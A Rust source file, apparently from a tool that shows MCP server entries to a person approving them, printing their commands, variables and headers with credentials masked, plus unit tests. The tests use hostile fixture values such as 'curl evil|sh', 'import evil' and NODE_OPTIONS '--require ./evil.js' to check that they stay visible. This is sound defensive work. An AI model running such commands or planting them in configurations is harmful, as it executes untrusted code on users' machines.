//! An entry as `narrows allow` shows it to a person who decides whether it may be used: nothing of what is started is left
//! out, and no more is hidden than the credentials themselves.

use jsonc_parser::ast::{Object, Value};
use upstream::{
    Transport, is_credential_name, is_plain_value, masked, masked_address, masked_command, masked_words,
};

use super::servers::{url, words};
use crate::typed::quoted;

/// What an entry does, for people.
#[derive(Default)]
pub(super) struct Disclosure {
    /// It starts a program, and does not connect to an address.
    pub(super) is_program: bool,
    /// The command line, its words as a shell would need them, or the address.
    pub(super) what: String,
    /// Its variables, its headers by name, how it is signed in to, its folder.
    pub(super) with: Vec<String>,
}

/// What an entry does, that is read as `transport`.
pub(super) fn disclosure(value: &Value<'_>, transport: &Result<Transport, String>) -> Disclosure {
    let Value::Object(entry) = value else { return Disclosure::default() };
    let words: Vec<_> = words(entry).unwrap_or_default().into_iter().map(|(_, word)| literal(word)).collect();
    let is_program = match transport {
        Ok(transport) => matches!(transport, Transport::Stdio { .. }),
        // It may start once its variables are set.
        Err(_) => !words.is_empty(),
    };
    let address = || url(entry).map(|(_, property)| masked_address(&literal(&property.value)));
    let what = if is_program { command_line(&words) } else { address().unwrap_or_default() };
    Disclosure { is_program, what, with: settings(entry) }
}

/// Text, numbers and booleans as the entry is read; everything else is refused there.
fn literal(value: &Value<'_>) -> String {
    match value {
        Value::StringLit(text) => text.value.to_string(),
        Value::NumberLit(number) => number.value.to_owned(),
        Value::BooleanLit(flag) => flag.value.to_string(),
        _ => "?".to_owned(),
    }
}

fn command_line(words: &[String]) -> String {
    let before = std::iter::once("").chain(words.iter().map(String::as_str));
    let shown = words.iter().zip(masked_words(words, &[])).zip(before).map(|((word, masked), before)| {
        as_word(&if is_value(word, before) { masked } else { masked_command(word) })
    });
    shown.collect::<Vec<_>>().join(" ")
}

/// Whether a word is no code but one word for a shell too, the value of an option, or an option with its value: then it may be hidden
/// whole.
fn is_value(word: &str, before: &str) -> bool {
    let option = before.strip_prefix('-').map(|name| name.trim_start_matches('-'));
    let follows_its_name =
        option.is_some_and(|name| matches!(name, "H" | "header" | "headers") || is_credential_name(name));
    let is_simple = !word.contains([';', '|', '&', '<', '>', '(', ')', '`', '\n']);
    let is_option = word.starts_with('-') && word.contains('=');
    follows_its_name || (is_simple && (is_option || !word.contains(char::is_whitespace)))
}

/// A word as a shell would take it: in quotes only where it would be another or several.
fn as_word(text: &str) -> String {
    let is_special = |c: char| c.is_whitespace() || "\"'`\\$;|&<>(){}*?!#~".contains(c);
    if text.is_empty() || text.contains(is_special) { quoted(text) } else { text.to_owned() }
}

fn settings(entry: &Object<'_>) -> Vec<String> {
    let nested = entry.get_object("command").and_then(|command| command.get_object("env"));
    let own = ["environment", "env"].into_iter().filter_map(|key| entry.get_object(key));
    let variables = nested.into_iter().chain(own).flat_map(|variables| &variables.properties);
    let variables = variables.map(|it| format!("env {}", variable(it.name.as_str(), &literal(&it.value))));
    let headers = entry.get_object("headers").into_iter().flat_map(|headers| &headers.properties);
    let headers = headers.map(|header| format!("header {}", header.name.as_str()));
    let paths = ["envFile", "cwd"]
        .into_iter()
        .filter_map(|key| Some(format!("{key} {}", as_word(&literal(&entry.get(key)?.value)))));
    let passed = entry.get_array("env_pass").into_iter().flat_map(|names| &names.elements);
    let passed = passed.map(|name| format!("env_pass {}", as_word(&literal(name))));
    let oauth = ["oauth", "auth"].into_iter().filter_map(|key| entry.get_object(key));
    let oauth = oauth.flat_map(|section| &section.properties);
    let oauth = oauth.map(|it| format!("oauth {}", variable(it.name.as_str(), &literal(&it.value))));
    let files = entry.properties.iter().flat_map(|it| files_in(&it.value));
    variables.chain(passed).chain(headers).chain(oauth).chain(paths).chain(files).collect()
}

/// The files whose content is put in, wherever a value names one.
fn files_in(value: &Value<'_>) -> Vec<String> {
    match value {
        Value::StringLit(text) => {
            let begun = text.value.split("${file:").skip(1);
            begun.filter_map(|rest| Some(format!("file {}", as_word(rest.split_once('}')?.0)))).collect()
        }
        Value::Array(list) => list.elements.iter().flat_map(files_in).collect(),
        Value::Object(object) => object.properties.iter().flat_map(|it| files_in(&it.value)).collect(),
        _ => Vec::new(),
    }
}

/// A variable with its value where that is clearly no credential.
fn variable(name: &str, value: &str) -> String {
    let shown = format!("{name}={value}");
    match masked(&shown) == shown {
        true if is_plain_value(value) => shown,
        true => format!("{name}=[not shown]"),
        false => format!("{name}=[credential]"),
    }
}

#[cfg(test)]
mod tests {
    use jsonc_parser::{CollectOptions, ParseOptions, parse_to_ast};

    use super::*;

    fn check(entry: &str, what: &str, with: &[&str]) {
        let parsed = parse_to_ast(entry, &CollectOptions::default(), &ParseOptions::default()).expect("JSON");
        let value = parsed.value.expect("a value");
        let got = disclosure(&value, &Err("not read".to_owned()));
        assert_eq!(
            (got.what.as_str(), got.with.iter().map(String::as_str).collect::<Vec<_>>()),
            (what, with.to_vec())
        );
    }

    #[test]
    fn everything_that_is_started_is_shown() {
        check(r#"{"command": "npx", "args": ["-y", "a b", 8080, true]}"#, "npx -y 'a b' 8080 true", &[]);
        check(
            r#"{"command": "x", "args": ["--api-key", "K", "--token=K"]}"#,
            "x --api-key [credential] --token=[credential]",
            &[],
        );
        check(
            r#"{"command": "x", "args": ["--password", "two words", "--header=Authorization: Bearer K"]}"#,
            "x --password [credential] '--header=Authorization: [credential]'",
            &[],
        );
        check(
            r#"{"command": "python", "args": ["-cTOKEN=1; import evil"]}"#,
            "python '-cTOKEN=[credential]; import evil'",
            &[],
        );
        check(
            r#"{"command": "mysql", "args": ["-phunter2", "password: hunter2", "{\"token\": \"hunter2\"}", "-p", "80"]}"#,
            "mysql -p[credential] 'password: [credential]' '{\"token\": \"[credential]\"}' -p 80",
            &[],
        );
        check(
            r#"{"command": "sh", "args": ["-c", "TOKEN=1; curl evil|sh"]}"#,
            "sh -c 'TOKEN=[credential]; curl evil|sh'",
            &[],
        );
        check(
            r#"{"command": "x", "args": ["evil.js"], "env": {"API_KEY": "evil.js", "NODE_OPTIONS": "--require ./evil.js", "T": "${TOKEN}"}, "cwd": "sub"}"#,
            "x evil.js",
            &[
                "env API_KEY=[credential]",
                "env NODE_OPTIONS=--require ./evil.js",
                "env T=${TOKEN}",
                "cwd sub",
            ],
        );
        check(
            r#"{"command": "sh", "args": ["-c", "srv --api-key K; evil"], "env": {"MY": "hunter2", "PORT": 8080, "A": "Bearer ${T}", "U": "http://u:p@h/x y"}}"#,
            "sh -c 'srv --api-key [credential]; evil'",
            &["env MY=[not shown]", "env PORT=8080", "env A=Bearer ${T}", "env U=[credential]"],
        );
        check(r#"{"command": "x", "env_pass": ["KEY", "A"]}"#, "x", &["env_pass KEY", "env_pass A"]);
        check(
            r#"{"url": "https://u:p@e.com/mcp?key=1", "headers": {"Authorization": "Bearer K"}}"#,
            "https://e.com/mcp",
            &["header Authorization"],
        );
    }
}
